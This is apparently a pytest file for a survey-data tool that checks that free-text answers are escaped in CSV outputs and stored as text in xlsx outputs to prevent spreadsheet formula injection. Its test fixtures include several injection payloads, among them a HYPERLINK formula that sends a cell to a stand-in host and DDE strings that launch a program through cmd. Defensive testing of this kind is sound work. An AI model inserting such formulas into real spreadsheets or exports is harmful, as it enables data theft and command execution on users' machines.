"""Spreadsheet formula injection (issue 7): a free-text answer that a
spreadsheet would run as a formula is escaped in CSV outputs and stored as
text in xlsx outputs; characters an xlsx cannot hold are removed, with a
warning.

The free-text question is C9's "Si oui, merci de préciser comment"
(``c9_solution_detail``), asked when C9 = Oui.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from exports import form_export, write_csv
from typer.testing import CliRunner

from dmp_survey.cli import app
from dmp_survey.io.writers import csv_safe, write_xlsx_sheets, xlsx_text

runner = CliRunner()

# One per character that starts a formula in Excel, LibreOffice or Sheets
# (OWASP "CSV injection"): =, +, -, @, tab, carriage return.
DANGEROUS = (
    '=HYPERLINK("http://example.invalid/?d="&A2,"cliquez ici")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DETAIL = "c9_solution_detail"


def _lf(value: str) -> str:
    """Line ends as LF. An XML reader gives text nodes back so (XML 1.0, 2.11);
    the CSV writer writes them so, because a bare CR inside a field is left
    unquoted by Python's csv module and read as a row break by spreadsheets."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture(scope="module")
def injected_run(tmp_path_factory, codebook):
    """One full ``dmp-survey run`` on a CSV export whose C9 free-text answers
    start with formula characters."""
    headers, rows, truth = form_export(codebook, n=40, seed=5)
    column = headers.index(codebook[DETAIL].text)
    asked = [i for i, t in enumerate(truth) if t["c9_solution"] == "yes"]
    assert len(asked) >= len(DANGEROUS)
    for i, value in zip(asked, DANGEROUS, strict=False):
        rows[i][column] = value
    inputs = tmp_path_factory.mktemp("input")
    export = write_csv(inputs / "export.csv", headers, rows)
    out = tmp_path_factory.mktemp("out")
    result = runner.invoke(app, ["run", str(export), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out / "data" / "processed", [rows[i][column] for i in asked[: len(DANGEROUS)]]


def test_free_text_answers_never_reach_the_processed_outputs(injected_run):
    # Free text is counted as answered, never written: nothing to escape.
    processed, written = injected_run
    with (processed / "responses.csv").open(encoding="utf-8", newline="") as fh:
        details = [r[DETAIL] for r in csv.DictReader(fh)]
    assert set(details) <= {"True", "False"} and details.count("True") >= len(written)
    for path in sorted(processed.rglob("*")):
        if path.suffix in (".csv", ".md", ".json"):
            text = path.read_text(encoding="utf-8")
            assert not [v for v in written if _lf(v).strip() and _lf(v).strip() in text], path.name


def test_no_csv_output_holds_an_unescaped_formula(injected_run):
    processed, _ = injected_run
    number = re.compile(r"^-?\d+(\.\d+)?(e[+-]?\d+)?$|^-?inf$", re.IGNORECASE)
    for path in sorted(processed.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            for row in csv.reader(fh):
                for cell in row:
                    if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                        cell.startswith("-") and not number.match(cell)
                    ):
                        pytest.fail(f"{path.name}: unescaped cell {cell!r}")


def test_parquet_holds_whether_the_free_text_was_answered(injected_run):
    processed, written = injected_run
    details = pd.read_parquet(processed / "responses.parquet")[DETAIL]
    assert details.dtype == bool and int(details.sum()) >= len(written)


def test_no_xlsx_output_holds_a_formula(injected_run):
    processed, _ = injected_run
    workbooks = sorted(processed.parent.parent.rglob("*.xlsx"))
    assert workbooks
    for path in workbooks:
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert not re.search(rb"<(\w+:)?f[ >/]", zf.read(name)), f"{path.name}!{name}"


@pytest.mark.parametrize("value", [*DANGEROUS, "=1+1", "-", "+", "@", "\t", "\r"])
def test_csv_safe_prefixes_formula_starts(value):
    assert csv_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Oui", "via la hotline", " =1", "'=1", "", "1-2", "a=b"])
def test_csv_safe_leaves_other_text_alone(value):
    assert csv_safe(value) == value


@pytest.mark.parametrize("value", [-1, -2.5, None, 3])
def test_csv_safe_leaves_non_text_alone(value):
    assert csv_safe(value) == value


@pytest.mark.parametrize("read_only", [False, True])
def test_write_xlsx_sheets_stores_formula_text_as_text(tmp_path, read_only):
    path = write_xlsx_sheets(tmp_path / "t.xlsx", [("Réponses", [["détail"], *[[v] for v in DANGEROUS]])])
    wb = openpyxl.load_workbook(path, data_only=False, read_only=read_only)
    cells = [row[0] for row in wb["Réponses"].iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(DANGEROUS)
    assert [c.value for c in cells] == [_lf(v) for v in DANGEROUS]
    wb.close()
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml")
    assert not re.search(rb"<(\w+:)?f[ >/]", sheet)


def test_xlsx_text_removes_illegal_characters_with_a_warning():
    warnings: list[str] = []
    assert xlsx_text("a\x00b\x01c\x08d\x0be\x0cf\x1fg\ufffeh\uffffi", warnings.append) == "abcdefghi"
    assert len(warnings) == 1
    assert "removed" in warnings[0]


def test_xlsx_text_keeps_legal_text_silently():
    warnings: list[str] = []
    text = "Oui\tpuis\nnon\r\n« très » é ☃ \x7f"
    assert xlsx_text(text, warnings.append) == text
    assert warnings == []


def test_xlsx_text_without_callback_still_cleans():
    assert xlsx_text("a\x00b") == "ab"


def test_write_xlsx_sheets_removes_illegal_characters_and_warns(tmp_path):
    warnings: list[str] = []
    path = write_xlsx_sheets(
        tmp_path / "c.xlsx",
        [("S", [["=\x00cmd\x07", "ok"], ["bad \uffff end", 1]])],
        warn=warnings.append,
    )
    wb = openpyxl.load_workbook(path, data_only=False)
    ws = wb["S"]
    assert (ws["A1"].value, ws["A1"].data_type) == ("=cmd", "s")
    assert ws["A2"].value == "bad  end"
    assert (ws["B2"].value, ws["B2"].data_type) == (1, "n")
    assert len(warnings) == 2


def test_write_xlsx_sheets_is_byte_identical_across_runs(tmp_path):
    rows = [["détail"], *[[v] for v in DANGEROUS]]
    first = write_xlsx_sheets(tmp_path / "a.xlsx", [("S", rows)]).read_bytes()
    second = write_xlsx_sheets(tmp_path / "b.xlsx", [("S", rows)]).read_bytes()
    assert first == second


def test_csv_writer_is_what_the_pipeline_uses(tmp_path):
    # write_csv escapes text columns (object and pandas string dtypes alike).
    from dmp_survey.io.writers import write_csv as write_output_csv

    frame = pd.DataFrame(
        {
            "o": pd.Series(list(DANGEROUS), dtype=object),
            "s": pd.Series(list(DANGEROUS), dtype="string"),
            "n": range(len(DANGEROUS)),
        }
    )
    path = write_output_csv(tmp_path / "x.csv", frame)
    with Path(path).open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["o"] for r in rows] == ["'" + _lf(v) for v in DANGEROUS]
    assert [r["s"] for r in rows] == ["'" + _lf(v) for v in DANGEROUS]
    assert b"\r" not in Path(path).read_bytes()  # no bare CR to split a row


def test_csv_output_keeps_one_row_per_record_whatever_the_line_ends(tmp_path):
    from dmp_survey.io.writers import write_csv as write_output_csv

    values = ["a\rb", "c\r\nd", "e\nf", "\r=1+1"]
    path = write_output_csv(tmp_path / "y.csv", pd.DataFrame({"t": values, "n": range(4)}))
    # Excel and LibreOffice split rows on any unquoted CR or LF: none is left unquoted.
    text = Path(path).read_text("utf-8")
    unquoted = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert unquoted.count("\n") == 1 + len(values) and "\r" not in unquoted
    with Path(path).open(encoding="utf-8", newline="") as fh:
        assert [r["t"] for r in csv.DictReader(fh)] == ["a\nb", "c\nd", "e\nf", "'\n=1+1"]


def test_parquet_has_statistics_on_its_plain_columns_only(tmp_path):
    # Minimum and maximum per column chunk for numbers and times; none for the
    # categorical answers (no reader filters on their codes' alphabetical order).
    import pyarrow.parquet as pq

    from dmp_survey.io.writers import write_parquet

    frame = pd.DataFrame(
        {
            "id": [3, 1, 2],
            "when": pd.to_datetime(["2020-01-02", "2020-01-01", None]),
            "answer": pd.Categorical(["b", None, "a"], categories=["b", "a"], ordered=True),
        }
    )
    path = write_parquet(tmp_path / "r.parquet", frame)
    pd.testing.assert_frame_equal(pd.read_parquet(path), frame)
    chunks = pq.ParquetFile(path).metadata.row_group(0)
    stats = {chunks.column(i).path_in_schema: chunks.column(i).statistics for i in range(chunks.num_columns)}
    assert (stats["id"].min, stats["id"].max) == (1, 3)
    assert stats["when"].has_min_max and stats["when"].null_count == 1
    assert stats["answer"] is None
